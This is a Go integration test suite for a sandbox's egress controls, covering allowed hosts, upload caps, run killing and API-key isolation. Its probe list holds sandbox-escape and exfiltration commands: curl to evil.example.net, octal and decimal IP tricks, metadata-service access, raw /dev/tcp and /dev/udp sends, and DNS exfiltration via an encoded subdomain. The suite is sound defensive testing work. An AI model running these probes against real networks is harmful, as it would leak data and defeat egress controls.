//go:build integration && linux

package integration

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cordon-sandbox/cordon/audit"
	"github.com/cordon-sandbox/cordon/audit/sqlite"
	"github.com/cordon-sandbox/cordon/internal/testimage"
	"github.com/miekg/dns"
)

// The tests of traffic run in a network namespace that holds two machines of
// the outside: one that the policy names and one that it does not. Both
// addresses are public ones, of nobody's.
const (
	inNetworkEnv = "CORDON_TEST_IN_NETWORK"
	allowedHost  = "origin.example.net"
	allowedAddr  = "198.51.101.7"
	otherAddr    = "198.51.101.8"
	nameServer   = "198.51.101.53:53"
)

// inNetwork runs the test again in a network namespace of its own and reports
// true where it is the one outside, which has nothing more to do.
func inNetwork(t *testing.T) bool {
	t.Helper()
	if os.Getenv(inNetworkEnv) != "" {
		return false
	}
	if os.Getuid() != 0 {
		t.Skip("a network namespace with addresses of one's own needs root, which this is not")
	}
	cordon, err := binary()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("unshare", "-n", "--", os.Args[0], "-test.run", "^"+t.Name()+"$", "-test.v", "-test.timeout", "280s")
	cmd.Env = append(os.Environ(), inNetworkEnv+"=1", "CORDON_TEST_BINARY="+cordon)
	out, err := cmd.CombinedOutput()
	t.Logf("%s", out)
	if err != nil {
		t.Fatalf("in the namespace: %v", err)
	}
	return true
}

// outside is the world that a sandbox must not reach, but for one host.
type outside struct {
	dir, ca string

	mu    sync.Mutex
	hits  map[string]int // by "address:port"
	asked []string       // names
	bytes int64          // that the allowed host was sent
	open  int            // requests that it is being sent
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	for _, args := range [][]string{
		{"link", "set", "lo", "up"}, {"addr", "add", allowedAddr + "/32", "dev", "lo"}, {"addr", "add", otherAddr + "/32", "dev", "lo"},
		{"addr", "add", "198.51.101.53/32", "dev", "lo"}, {"addr", "add", "169.254.169.254/32", "dev", "lo"},
	} {
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			t.Fatalf("ip %v: %v: %s", args, err, out)
		}
	}
	o := &outside{dir: t.TempDir(), hits: map[string]int{}}
	cert := o.certificate(t)
	for _, addr := range []string{allowedAddr, otherAddr, "169.254.169.254", "127.0.0.1"} {
		for _, port := range []string{"80", "443", "8443", "22"} {
			o.serve(t, net.JoinHostPort(addr, port), port == "443" || port == "8443", cert)
		}
		o.datagrams(t, addr+":53")
	}
	o.names(t)
	return o
}

// certificate is one for every name, of a CA of the test's own.
func (o *outside) certificate(t *testing.T) tls.Certificate {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	ca := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
		DNSNames: []string{allowedHost, "*.example.net", "*.example.org", "api.anthropic.com"}, IPAddresses: []net.IP{net.ParseIP(allowedAddr), net.ParseIP(otherAddr)},
	}
	der, err := x509.CreateCertificate(rand.Reader, ca, ca, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	text := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	o.ca = filepath.Join(o.dir, "ca.pem")
	if err := os.WriteFile(o.ca, text, 0o644); err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// counted notes each connection before anything else happens on it.
type counted struct {
	net.Listener
	o *outside
}

func (c counted) Accept() (net.Conn, error) {
	conn, err := c.Listener.Accept()
	if err == nil {
		c.o.hit(conn.LocalAddr().String())
	}
	return conn, err
}

func (o *outside) hit(where string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.hits[where]++
}

func (o *outside) serve(t *testing.T, address string, secure bool, cert tls.Certificate) {
	t.Helper()
	l, err := net.Listen("tcp", address)
	if err != nil {
		t.Fatal(err)
	}
	l = counted{l, o}
	if secure {
		l = tls.NewListener(l, &tls.Config{Certificates: []tls.Certificate{cert}})
	}
	srv := &http.Server{ErrorLog: log.New(io.Discard, "", 0), Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		o.opened(1)
		defer o.opened(-1)
		buf := make([]byte, 64<<10)
		for {
			n, err := r.Body.Read(buf)
			o.mu.Lock()
			o.bytes += int64(n)
			o.mu.Unlock()
			if err != nil {
				break
			}
		}
		fmt.Fprintf(w, "from %s\n", address)
	})}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
}

func (o *outside) opened(n int) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.open += n
}

// until waits for something that is seen outside.
func (o *outside) until(t *testing.T, what string, seen func() bool) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		o.mu.Lock()
		ok := seen()
		o.mu.Unlock()
		if ok {
			return
		}
		if time.Now().After(deadline) {
			t.Fatal(what)
		}
	}
}

// datagrams counts what comes by UDP.
func (o *outside) datagrams(t *testing.T, address string) {
	t.Helper()
	conn, err := net.ListenPacket("udp", address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	go func() {
		buf := make([]byte, 4096)
		for {
			if _, _, err := conn.ReadFrom(buf); err != nil {
				return
			}
			o.hit("udp " + address)
		}
	}()
}

// names answers for every name: the allowed one and all others.
func (o *outside) names(t *testing.T) {
	t.Helper()
	conn, err := net.ListenPacket("udp", nameServer)
	if err != nil {
		t.Fatal(err)
	}
	srv := &dns.Server{PacketConn: conn, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		m := new(dns.Msg)
		m.SetReply(q)
		name := q.Question[0].Name
		o.mu.Lock()
		o.asked = append(o.asked, strings.ToLower(name))
		o.mu.Unlock()
		addr := otherAddr
		if name == allowedHost+"." {
			addr = allowedAddr
		}
		if name == "inner.example.org." {
			addr = "169.254.169.254"
		}
		if q.Question[0].Qtype == dns.TypeA {
			m.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 1}, A: netip.MustParseAddr(addr).AsSlice()}}
		}
		_ = w.WriteMsg(m)
	})}
	go srv.ActivateAndServe()
	t.Cleanup(func() { _ = srv.Shutdown() })
}

// strangers are the places that were reached though nobody allowed it.
func (o *outside) strangers() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	var out []string
	for where := range o.hits {
		if where != allowedAddr+":443" && where != allowedAddr+":80" {
			out = append(out, where)
		}
	}
	for _, name := range o.asked {
		if name != allowedHost+"." && name != "inner.example.org." {
			out = append(out, "DNS "+name)
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func (o *outside) reached() (connections int, bytes int64) {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.hits[allowedAddr+":443"] + o.hits[allowedAddr+":80"], o.bytes
}

// binary is the cordon program, built once for the tests of traffic, which
// need no peers from npm.
var binary = sync.OnceValues(func() (string, error) {
	if path := os.Getenv("CORDON_TEST_BINARY"); path != "" {
		return path, nil
	}
	dir := os.Getenv("CORDON_INTEGRATION_DIR")
	if dir == "" {
		cache, err := os.UserCacheDir()
		if err != nil {
			return "", err
		}
		dir = filepath.Join(cache, "cordon", "integration")
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return "", err
	}
	p := &parts{}
	return filepath.Join(dir, "cordon"), p.build(dir)
})

// tenant is one user of the outside: a workspace, a database, a state.
type tenant struct {
	t                      *testing.T
	o                      *outside
	cordon, workspace, dir string
	runtime                []string // flags
	env                    []string
}

func newTenant(t *testing.T, o *outside) *tenant {
	t.Helper()
	cordon, err := binary()
	if err != nil {
		t.Fatal(err)
	}
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	x := &tenant{t: t, o: o, cordon: cordon, dir: dir, workspace: filepath.Join(dir, "ws")}
	x.env = append(os.Environ(), "XDG_STATE_HOME="+filepath.Join(dir, "state"), "XDG_CONFIG_HOME="+filepath.Join(dir, "config"), "SSL_CERT_FILE="+o.ca)
	if err := os.MkdirAll(x.workspace, 0o755); err != nil {
		t.Fatal(err)
	}
	ca, err := os.ReadFile(o.ca)
	if err != nil {
		t.Fatal(err)
	}
	x.file("ca.pem", string(ca))
	return x
}

func (x *tenant) file(name, text string) {
	x.t.Helper()
	if err := os.WriteFile(filepath.Join(x.workspace, name), []byte(text), 0o755); err != nil {
		x.t.Fatal(err)
	}
}

func (x *tenant) db() string { return filepath.Join(x.dir, "a.db") }

// run runs a script of the workspace inside walls.
func (x *tenant) run(id string, flags []string, script string) (code int, stdout, stderr string) {
	x.t.Helper()
	args := append([]string{"run", "--db", x.db(), "--run-id", id, "--workspace", x.workspace, "--resolver", nameServer, "--ecosystem", "none", "--llm-proxy"}, x.runtime...)
	args = append(append(args, flags...), "--", "sh", script)
	cmd := exec.Command(x.cordon, args...)
	cmd.Env = x.env
	var out, errs strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &errs
	if err := cmd.Run(); err != nil && cmd.ProcessState == nil {
		x.t.Fatal(err)
	}
	return cmd.ProcessState.ExitCode(), out.String(), errs.String()
}

// rows are the refusals of a run, as "tool rule host".
func (x *tenant) rows(id string) map[string]int {
	x.t.Helper()
	store, err := sqlite.Open(x.t.Context(), x.db())
	if err != nil {
		x.t.Fatal(err)
	}
	defer store.Close()
	list, err := store.Violations(x.t.Context(), audit.Filter{RunID: id, Phase: "D"})
	if err != nil {
		x.t.Fatal(err)
	}
	if res, err := store.Verify(x.t.Context()); err != nil || !res.OK {
		x.t.Errorf("the chain: %+v, %v", res, err)
	}
	out := map[string]int{}
	for _, v := range list {
		out[v.ToolName+" "+v.Detail]++
	}
	return out
}

// onEachRuntime runs a test on every runtime that this host has.
func onEachRuntime(t *testing.T, o *outside, test func(t *testing.T, x *tenant)) {
	cordon, err := binary()
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"native", "gvisor", "docker"} {
		t.Run(name, func(t *testing.T) {
			x := newTenant(t, o)
			x.runtime = []string{"--runtime", name}
			if name == "docker" {
				x.docker()
				test(t, x)
				return
			}
			doctor := exec.Command(cordon, "doctor", "--json")
			doctor.Env = x.env
			out, _ := doctor.Output() // its exit status is about all runtimes
			var reports []struct {
				Runtime   string `json:"runtime"`
				Available bool   `json:"available"`
				Why       string `json:"why"`
			}
			if err := json.Unmarshal(out, &reports); err != nil {
				t.Fatalf("cordon doctor: %v: %s", err, out)
			}
			for _, r := range reports {
				if r.Runtime == name && !r.Available {
					t.Skipf("not available here: %s", r.Why)
				}
			}
			test(t, x)
		})
	}
}

// docker gives the tenant an engine with an image that has curl.
func (x *tenant) docker() {
	x.t.Helper()
	if _, err := exec.LookPath("dockerd"); err != nil {
		x.t.Skipf("no engine to start: %v", err)
	}
	ctx, cancel := context.WithTimeout(x.t.Context(), 90*time.Second)
	defer cancel()
	engine, err := testimage.StartEngine(ctx)
	if err != nil {
		x.t.Skipf("no engine can be started here: %v", err)
	}
	x.t.Cleanup(func() {
		if err := engine.Stop(); err != nil {
			x.t.Error(err)
		}
	})
	if err := engine.Import(ctx, "", append(testimage.Programs, "curl", "getent", "env")...); err != nil {
		x.t.Fatal(err)
	}
	x.env = append(x.env, "DOCKER_HOST="+engine.Host)
	x.runtime = append(x.runtime, "--image", testimage.Image)
}

// probes are what a hijacked tool tries; none may get anywhere. row is a part
// of the row that each leaves; those without one never got as far as a proxy.
var probes = []struct{ name, command, row string }{
	{"another host", "curl -k https://evil.example.net/", "proxy/tool connection to evil.example.net:443"},
	{"another host by plain HTTP", "curl http://evil.example.net/", "proxy/tool connection to evil.example.net:80"},
	{"a name below the allowed one", "curl -k https://sub.origin.example.net/", "proxy/tool connection to sub.origin.example.net:443"},
	{"a name that begins with the allowed one", "curl -k https://origin.example.net.evil.example.org/", "proxy/tool connection to origin.example.net.evil.example.org:443"},
	{"the allowed name as a user", "curl -k https://origin.example.net@evil.example.net/user", ""},
	{"a label too many", "curl -k https://xorigin.example.net/", "proxy/tool connection to xorigin.example.net:443"},
	{"the allowed host's own address", "curl -k https://198.51.101.7/", "proxy/tool connection to 198.51.101.7:443"},
	{"an address as one number", "curl -k https://3325257991/", "connection to 198.51.101.7:443"},
	{"an address in octal", "curl -k https://0306.063.0145.010/", "connection to 198.51.101.8:443"},
	{"the metadata service by its address", "curl http://169.254.169.254/latest/", "connection to 169.254.169.254:80"},
	{"loopback of the host", "curl http://127.0.0.1/", ""},
	{"another port of the allowed host", "curl -k https://origin.example.net:8443/", "connection to origin.example.net:8443"},
	{"SSH's port of the allowed host", "curl -k https://origin.example.net:22/", "connection to origin.example.net:22"},
	{"TLS for another name by the allowed host", "curl -k --connect-to evil.example.net:443:origin.example.net:443 https://evil.example.net/", "connection to origin.example.net:443"},
	{"the Host field of another", "curl -H 'Host: evil.example.net' http://origin.example.net/", ""},
	{"an allowed name that resolves to the metadata service", "curl http://inner.example.org/", "connection to inner.example.org:80"},
	{"no proxy", "curl -k --noproxy '*' https://origin.example.net/", ""},
	{"no proxy and the right address", "curl -k --noproxy '*' --resolve origin.example.net:443:198.51.101.7 https://origin.example.net/", ""},
	{"no environment", "env -i /usr/bin/curl -k -m 5 https://198.51.101.7/", ""},
	{"SOCKS of the proxy", "curl -k --noproxy '' --socks5-hostname 127.0.0.1:3128 https://evil.example.net/", ""},
	{"a file transfer", "curl ftp://evil.example.net/", ""},
	{"TCP by hand", "bash -c 'exec 3<>/dev/tcp/198.51.101.8/80'", ""},
	{"UDP by hand", "bash -c 'echo secret > /dev/udp/198.51.101.8/53'", ""},
	{"a name server by UDP", "bash -c 'echo secret > /dev/udp/198.51.101.53/53'", ""},
	{"DNS of the system", "getent hosts c2VjcmV0.evil.example.net", ""},
	{"the host's own proxy variables turned off", "HTTPS_PROXY= https_proxy= ALL_PROXY= all_proxy= curl -k https://origin.example.net/", ""},
	{"an LLM host by the tool proxy", "curl -k https://api.openai.com/v1/files", "proxy/tool connection to api.openai.com:443"},
	{"an LLM host in capitals", "curl -k https://API.ANTHROPIC.COM./v1/files", "proxy/tool connection to api.anthropic.com:443"},
	{"a registry by the LLM proxy", "curl -k -x $CORDON_LLM_PROXY https://pypi.org/simple/", "proxy/llm connection to pypi.org:443"},
	{"the allowed host by the LLM proxy", "curl -k -x $CORDON_LLM_PROXY https://origin.example.net/", "proxy/llm connection to origin.example.net:443"},
	{"an LLM host in the clear", "curl -x $CORDON_LLM_PROXY http://api.openai.com/", "proxy/llm connection to api.openai.com:80"},
}

func TestEgressNothingButTheAllowedHost(t *testing.T) {
	if inNetwork(t) {
		return
	}
	o := newOutside(t)
	var script strings.Builder
	script.WriteString("alias curl='curl -sS -m 5'\n") // sh expands aliases
	script.WriteString("curl --cacert ca.pem https://origin.example.net/ && curl http://origin.example.net/ || exit 9\n")
	for i, p := range probes {
		fmt.Fprintf(&script, "if %s >out 2>err </dev/null && ! grep -q 'refused by' out; then echo 'REACHED %d'; fi\n", p.command, i)
	}
	script.WriteString("echo done\n")
	onEachRuntime(t, o, func(t *testing.T, x *tenant) {
		x.file("probe.sh", script.String())
		before, _ := o.reached()
		code, out, errs := x.run("probes", []string{"--allow-host", allowedHost, "--allow-host", "inner.example.org", "--discard"}, "probe.sh")
		if code != 0 || !strings.Contains(out, "done") || strings.Count(out, "from "+allowedAddr) != 2 {
			t.Fatalf("exit %d\n%s\n%s", code, out, errs)
		}
		for i, p := range probes {
			if strings.Contains(out, "REACHED "+strconv.Itoa(i)+"\n") {
				t.Errorf("%s: %s succeeded", p.name, p.command)
			}
		}
		// The two that were allowed, and a tunnel that ended at its ClientHello.
		if after, _ := o.reached(); after-before < 2 || after-before > 3 {
			t.Errorf("the allowed host was connected to %d times", after-before)
		}
		if s := o.strangers(); len(s) > 0 {
			t.Errorf("reached: %q", s)
		}
		if !strings.Contains(errs, "refused: connection to ") {
			t.Errorf("nobody was told: %s", errs)
		}
		rows := x.rows("probes")
		for _, p := range probes {
			found := p.row == ""
			for row := range rows {
				found = found || strings.Contains(row, p.row)
			}
			if !found {
				t.Errorf("%s left no row %q", p.name, p.row)
			}
		}
		if t.Failed() {
			t.Logf("rows %v\n%s", rows, errs)
		}
	})
	// The probes can succeed: a policy that names the other host lets two.
	x := newTenant(t, o)
	x.file("probe.sh", script.String())
	if _, out, errs := x.run("control", []string{"--allow-host", allowedHost, "--allow-host", "evil.example.net", "--discard"}, "probe.sh"); !strings.Contains(out, "REACHED 0\n") || !strings.Contains(out, "REACHED 1\n") {
		t.Errorf("allowed probes do not get through:\n%s\n%s", out, errs)
	}
	if s := o.strangers(); !slices.Contains(s, otherAddr+":443") || !slices.Contains(s, "DNS evil.example.net.") {
		t.Errorf("the outside noticed only %q", s)
	}
}

func TestEgressAnUploadPastTheCap(t *testing.T) {
	if inNetwork(t) {
		return
	}
	o := newOutside(t)
	const limit = 24 << 20
	onEachRuntime(t, o, func(t *testing.T, x *tenant) {
		x.file("kept", "as it was\n")
		x.file("send.sh", "echo changed > kept; echo new > made\nhead -c 100000000 /dev/zero | curl -sS --cacert ca.pem -T - https://origin.example.net/up\nexit 0\n")
		_, before := o.reached()
		code, out, errs := x.run("upload", []string{"--allow-host", allowedHost, "--max-bytes", strconv.Itoa(limit)}, "send.sh")
		_, after := o.reached()
		if code != 137 || !strings.Contains(errs, "the cap on bytes") {
			t.Errorf("exit %d\n%s\n%s", code, out, errs)
		}
		if sent := after - before; sent == 0 || sent > limit {
			t.Errorf("%d bytes came through of a cap of %d", sent, limit)
		}
		if b, err := os.ReadFile(filepath.Join(x.workspace, "kept")); err != nil || string(b) != "as it was\n" {
			t.Errorf("kept is %q, %v", b, err)
		}
		if _, err := os.Stat(filepath.Join(x.workspace, "made")); err == nil {
			t.Error("the run's file was committed")
		}
		if !hasRow(x.rows("upload"), "cap of "+strconv.Itoa(limit)) {
			t.Errorf("rows %v", x.rows("upload"))
		}
		x.counted("upload", limit/2, limit+1<<20)
	})
}

func TestEgressAKilledRunStopsSending(t *testing.T) {
	if inNetwork(t) {
		return
	}
	o := newOutside(t)
	onEachRuntime(t, o, func(t *testing.T, x *tenant) {
		x.file("send.sh", "echo new > made\nyes | curl -sS --limit-rate 1M --cacert ca.pem -T - https://origin.example.net/up\nexit 0\n")
		_, before := o.reached()
		ended := make(chan int, 1)
		go func() {
			code, _, _ := x.run("doomed", []string{"--mode", "shadow", "--allow-host", allowedHost}, "send.sh")
			ended <- code
		}()
		o.until(t, "nothing is sent", func() bool { return o.bytes-before > 100_000 })
		kill := exec.Command(x.cordon, "kill", "--db", x.db(), "doomed")
		kill.Env = x.env
		if out, err := kill.CombinedOutput(); err != nil {
			t.Fatalf("cordon kill: %v: %s", err, out)
		}
		o.until(t, "it is still sending", func() bool { return o.open == 0 })
		if code := <-ended; code != 137 {
			t.Errorf("exit %d", code)
		}
		if _, err := os.Stat(filepath.Join(x.workspace, "made")); err == nil {
			t.Error("the run's file was committed")
		}
	})
}

// Two commands of one run share its cap, though each is below it.
func TestEgressUploadsOfOneRunAddUp(t *testing.T) {
	if inNetwork(t) {
		return
	}
	o := newOutside(t)
	x := newTenant(t, o)
	config := filepath.Join(x.dir, "cordon.yaml")
	if err := os.WriteFile(config, []byte("caps: {bytes_written: 20000000}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	x.file("send.sh", "echo $1 > made\nhead -c 12000000 /dev/zero | curl -sS --cacert ca.pem -T - https://origin.example.net/up\nexit 0\n")
	flags := []string{"--config", config, "--mode", "enforce", "--allow-host", allowedHost}
	if code, out, errs := x.run("twice", flags, "send.sh"); code != 0 {
		t.Fatalf("the first: exit %d\n%s\n%s", code, out, errs)
	}
	x.counted("twice", 12_000_000, 12_100_000)
	made, err := os.Stat(filepath.Join(x.workspace, "made"))
	if err != nil {
		t.Fatal(err)
	}
	if code, out, errs := x.run("twice", flags, "send.sh"); code != 137 {
		t.Errorf("the second: exit %d\n%s\n%s", code, out, errs)
	}
	x.counted("twice", 20_000_000, 21_000_000)
	if again, err := os.Stat(filepath.Join(x.workspace, "made")); err != nil || !again.ModTime().Equal(made.ModTime()) {
		t.Errorf("the second was committed: %v", err)
	}
	if !hasRow(x.rows("twice"), "cap bytes_written") {
		t.Errorf("rows %v", x.rows("twice"))
	}
}

func hasRow(rows map[string]int, part string) bool {
	for row := range rows {
		if strings.Contains(row, part) {
			return true
		}
	}
	return false
}

// counted checks how many bytes a run was charged with: once, and all.
func (x *tenant) counted(id string, least, most int64) {
	x.t.Helper()
	store, err := sqlite.Open(x.t.Context(), x.db())
	if err != nil {
		x.t.Fatal(err)
	}
	defer store.Close()
	if used, err := store.Usage(x.t.Context(), id); err != nil || used.BytesWritten < least || used.BytesWritten > most {
		x.t.Errorf("run %s was charged with %d bytes (want %d to %d), %v", id, used.BytesWritten, least, most, err)
	}
}

// A fake of Anthropic's API, its official client inside: the key stays outside, the cost
// is booked, and over the cap the next call is refused.
func TestEgressModelsByTheirBaseURL(t *testing.T) {
	if inNetwork(t) {
		return
	}
	o := newOutside(t)
	program := filepath.Join(t.TempDir(), "askmodel")
	build := exec.Command("go", "build", "-o", program, "./testdata/askmodel")
	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOPROXY=off")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	const key = "sk-ant-the-real-key-0123456789"
	var mu sync.Mutex
	var keys []string
	model := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		keys = append(keys, r.Header.Get("X-Api-Key"))
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"id":"m","type":"message","role":"assistant","model":"m","content":[{"type":"text","text":"the model says hello"}],"stop_reason":"end_turn","usage":{"input_tokens":1000,"output_tokens":1000}}`)
	})}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go model.Serve(l)
	t.Cleanup(func() { model.Close() })
	onEachRuntime(t, o, func(t *testing.T, x *tenant) {
		mu.Lock()
		keys = nil
		mu.Unlock()
		x.env = append(x.env, "ANTHROPIC_API_KEY="+key)
		prices, config := filepath.Join(x.dir, "prices.json"), filepath.Join(x.dir, "cordon.yaml")
		for file, text := range map[string]string{
			prices: `{"models":[{"provider":"anthropic","model":"m","input":1000,"output":1000,"cache_read":1,"cache_write":1,"cache_write_1h":1,"source":"a test","date":"2026-01-01"}]}`,
			config: "caps: {cost_usd: 3}\negress: {prices: " + prices + "}\n",
		} {
			if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.Link(program, filepath.Join(x.workspace, "askmodel")); err != nil {
			t.Fatal(err)
		}
		x.file("ask.sh", "./askmodel\n")
		code, out, errs := x.run("models", []string{"--config", config, "--mode", "enforce", "--tier", "autonomous", "--llm-base", "anthropic=http://" + l.Addr().String(), "--discard"}, "ask.sh")
		if code != 0 {
			t.Fatalf("exit %d\n%s\n%s", code, out, errs)
		}
		for _, want := range []string{"0 200 the model says hello\n", "1 200 the model says hello\n", "2 402 ", "the run has spent", "files 4"} {
			if !strings.Contains(out, want) {
				t.Errorf("no %q in\n%s", want, out)
			}
		}
		if strings.Contains(out+errs, key) {
			t.Errorf("the key is inside:\n%s", out)
		}
		mu.Lock()
		if len(keys) != 2 || keys[0] != key || keys[1] != key {
			t.Errorf("the model saw the keys %q", keys)
		}
		mu.Unlock()
		store, err := sqlite.Open(t.Context(), x.db())
		if err != nil {
			t.Fatal(err)
		}
		defer store.Close()
		if used, err := store.Usage(t.Context(), "models"); err != nil || used.CostUSD < 3.9 || used.CostUSD > 4.1 {
			t.Errorf("the run was charged $%v, %v", used.CostUSD, err)
		}
		rows := x.rows("models")
		if !hasRow(rows, "/v1/files") || !hasRow(rows, "proxy/llm-base") {
			t.Errorf("rows %v", rows)
		}
		if s := o.strangers(); len(s) > 0 {
			t.Errorf("reached: %q", s)
		}
	})
}
